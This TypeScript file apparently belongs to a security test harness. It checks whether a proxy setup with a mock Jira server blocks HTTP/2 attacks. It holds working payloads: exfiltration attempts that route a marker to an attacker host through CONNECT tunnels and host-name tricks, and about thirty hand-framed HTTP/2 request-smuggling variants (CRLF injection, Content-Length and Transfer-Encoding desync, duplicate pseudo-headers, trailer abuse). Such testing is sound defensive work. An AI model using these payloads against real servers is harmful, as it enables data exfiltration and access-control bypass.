import type { Socket } from 'node:net'
import type { Attempt, Brief, InsideRow } from '../brief.js'
import { attempt, inTurn, type ForwardResult } from './lib/attempt.mjs'
import { openTcp, openTunnel } from './lib/http.mjs'
import {
  block,
  END,
  END_HEADERS,
  END_STREAM,
  frame,
  PREFACE,
  readFrames,
  TYPES,
} from './lib/http2-frames.mjs'
import { answerOf, askByTls, HTTP2, openSession, secure, type HttpRequest } from './lib/http-versions.mjs'
import { askThroughProxy } from './exfiltration.mjs'

/** Attacks that only HTTP/2 has. */
export const rows: Readonly<Record<string, InsideRow>> = {
  'exfil-explicit-h2': { attack: throughExplicitProxy, control: askThroughProxy(HTTP2) },
  'request-smuggling-h2': { attack: smuggle, control: sendBody },
}

function throughExplicitProxy({ listeners, names, attacker }: Brief, marker: string): Promise<Attempt[]> {
  const hosts = [
    names.attacker,
    `${names.attacker}:${attacker.port}`,
    `127.0.0.1:${attacker.port}`,
    `[::1]:${attacker.port}`,
    `${names.jira}@${names.attacker}`,
  ]
  const request = (host: string): HttpRequest => ({
    ...{ host, path: `/?q=${marker}`, method: 'POST', body: marker },
  })
  const withScheme = async (host: string): Promise<ForwardResult> => {
    const session = openSession(await openTcp(listeners.proxy))
    const target = { ':scheme': 'https', ':authority': host, ':path': `/?q=${marker}` }
    return closing(session, answerOf(session.request(target)))
  }
  /** A CONNECT of HTTP/2 makes a tunnel of its stream (RFC 9113 section 8.5). */
  const connect = async (host: string): Promise<ForwardResult> => {
    const session = openSession(await openTcp(listeners.proxy))
    const stream = session.request({ ':method': 'CONNECT', ':authority': host })
    return closing(session, answerOf(stream, `GET /?q=${marker} HTTP/1.1\r\nHost: ${host}\r\n\r\n`))
  }
  const nested = async (host: string): Promise<ForwardResult> => {
    const tunnel = await openTunnel(listeners.proxy, `${names.jira}:443`)
    return HTTP2.ask(await secure(tunnel, names.jira, HTTP2), request(host))
  }
  return inTurn(
    hosts.flatMap((host) => [
      () => attempt(`http://${host}`, async () => HTTP2.ask(await openTcp(listeners.proxy), request(host))),
      () => attempt(`https://${host}`, () => withScheme(host)),
      () => attempt(`CONNECT ${host} over HTTP/2`, () => connect(host.includes(':') ? host : `${host}:443`)),
      () => attempt(`${host} inside CONNECT to Jira`, () => nested(host)),
      () =>
        attempt(`CONNECT ${host}`, async () => {
          const target = host.includes(':') ? host : `${host}:443`
          return HTTP2.ask(await openTunnel(listeners.proxy, target), request(host))
        }),
    ]),
  )
}

async function closing(session: { destroy(): void }, answer: Promise<ForwardResult>): Promise<ForwardResult> {
  try {
    return await answer
  } finally {
    session.destroy()
  }
}

type Fields = readonly (readonly [string, string])[]

/** What arrives at a server of HTTP/1.1 must be one request, whatever the fields and frames of HTTP/2 contain. */
function smuggle({ listeners, names }: Brief, marker: string): Promise<Attempt[]> {
  const { jira, attacker } = names
  const path = `/rest/api/2/myself?attack=${marker}`
  const hidden = `GET /admin?smuggled=${marker} HTTP/1.1\r\nHost: ${jira}\r\n\r\n`
  const target = (changed: Readonly<Record<string, string>> = {}, method = 'GET'): [string, string][] =>
    Object.entries({ ':method': method, ':scheme': 'https', ':authority': jira, ':path': path, ...changed })
  const length = (value: number | string): [string, string] => ['content-length', String(value)]
  const get = (...fields: Fields): Message => ({ fields: [...target(), ...fields] })
  const post = (body: string, ...fields: Fields): Message => ({
    fields: [...target({}, 'POST'), ...fields],
    body,
  })
  const messages: Record<string, Message> = {
    'request in a value (H2.CRLF)': get(['x-note', `a\r\n\r\n${hidden}`]),
    'header in a value': get(['x-note', `a\r\nHost: ${attacker}`]),
    'header in a value after a line feed': get(['x-note', `a\nTransfer-Encoding: chunked`]),
    'NUL in a value': get(['x-note', 'a\0b']),
    'request in a name': get([`x-note: a\r\n\r\n${hidden}`, 'b']),
    'header in a name': get(['x-note: a\r\ntransfer-encoding', 'chunked']),
    'upper case in a name': get(['Transfer-Encoding', 'chunked']),
    'request in the path': {
      fields: target({ ':path': `${path} HTTP/1.1\r\nHost: ${jira}\r\n\r\n${hidden}` }),
    },
    'space in the path': { fields: target({ ':path': `/admin?smuggled=${marker} HTTP/1.1` }) },
    'request in the method': {
      fields: target({ ':method': `GET /admin?smuggled=${marker} HTTP/1.1\r\nHost: ${jira}\r\n\r\nGET` }),
    },
    'space in the method': { fields: target({ ':method': `GET /admin?smuggled=${marker}` }) },
    'request in the authority': { fields: target({ ':authority': `${jira}\r\n\r\n${hidden}` }) },
    'address in the scheme': { fields: target({ ':scheme': `https://${attacker}/x?` }) },
    'Transfer-Encoding (H2.TE)': post(`0\r\n\r\n${hidden}`, ['transfer-encoding', 'chunked']),
    'Content-Length of 0 (H2.CL)': post(hidden, length(0)),
    'Content-Length that is too large': post('x', length(hidden.length)),
    'two Content-Lengths': post(hidden, length(0), length(hidden.length)),
    'signed Content-Length': post(hidden, length(`+${String(hidden.length)}`)),
    'Content-Length without a body': get(length(hidden.length)),
    'body of a GET': { ...get(length(hidden.length)), body: hidden },
    'Host beside :authority': get(['host', attacker]),
    'two paths': { fields: [...target(), [':path', `/admin?smuggled=${marker}`]] },
    'two authorities': { fields: [...target(), [':authority', attacker]] },
    'two methods': { fields: [...target(), [':method', 'DELETE']] },
    'path after the fields': {
      fields: [...target().slice(0, 3), ['x-note', 'a'], [':path', `/admin?smuggled=${marker}`]],
    },
    'unknown pseudo-header': { fields: [...target(), [':path2', `/admin?smuggled=${marker}`]] },
    'Connection: authorization': get(['connection', 'authorization']),
    'Upgrade: h2c': get(['upgrade', 'h2c'], ['connection', 'upgrade']),
    'TE: gzip': get(['te', 'gzip, chunked']),
    'framing in the trailers': { ...post('x'), trailers: [length(5), ['transfer-encoding', 'chunked']] },
    'credential in the trailers': { ...post('x'), trailers: [['authorization', 'Bearer placeholder']] },
    'path in the trailers': { ...post('x'), trailers: [[':path', `/admin?smuggled=${marker}`]] },
  }
  return inTurn(
    Object.entries(messages).map(
      ([what, message]) =>
        () =>
          attempt(what, async () => {
            const socket = await secure(await openTcp(listeners.https), jira, HTTP2)
            // A denial and a correctly framed request are both fine; the mock server's record shows whether it was either.
            return { said: await sendByHand(socket, message), reached: false }
          }),
    ),
  )
}

interface Message {
  readonly fields: Fields
  readonly body?: string
  readonly trailers?: Fields
}

/** Writes the frames by hand, because clients would correct or refuse the deliberate errors. */
function sendByHand(socket: Socket, { fields, body, trailers }: Message): Promise<string> {
  const hasBody = body !== undefined
  const frames = [PREFACE, frame('settings', 0, 0)]
  frames.push(frame('headers', hasBody ? END_HEADERS : END, 1, block(...fields)))
  if (hasBody)
    frames.push(frame('data', trailers === undefined ? END_STREAM : 0, 1, Buffer.from(body, 'latin1')))
  if (trailers !== undefined) frames.push(frame('headers', END, 1, block(...trailers)))
  return new Promise((resolve) => {
    let received = Buffer.alloc(0)
    const finish = (said: string) => {
      resolve(said)
      socket.destroy()
    }
    socket.on('data', (chunk: Buffer) => {
      received = Buffer.concat([received, chunk])
      for (const { type, flags, stream } of readFrames(received).frames) {
        if (type === TYPES.goaway) finish('the connection was closed')
        else if (stream === 1 && type === TYPES.rst) finish('the stream was reset')
        else if (stream === 1 && (flags & END_STREAM) !== 0 && type !== TYPES.window)
          finish('it was answered')
      }
    })
    socket.once('error', () => finish('closed'))
    socket.once('close', () => finish('closed'))
    socket.write(Buffer.concat(frames))
  })
}

async function sendBody({ listeners, names }: Brief, marker: string): Promise<Attempt[]> {
  return [
    await attempt('POST with a body of unknown length', () =>
      askByTls(HTTP2, listeners.https, {
        host: names.jira,
        path: `/rest/api/2/issue?control=${marker}`,
        method: 'POST',
        body: JSON.stringify({ fields: { summary: marker } }),
      }),
    ),
  ]
}
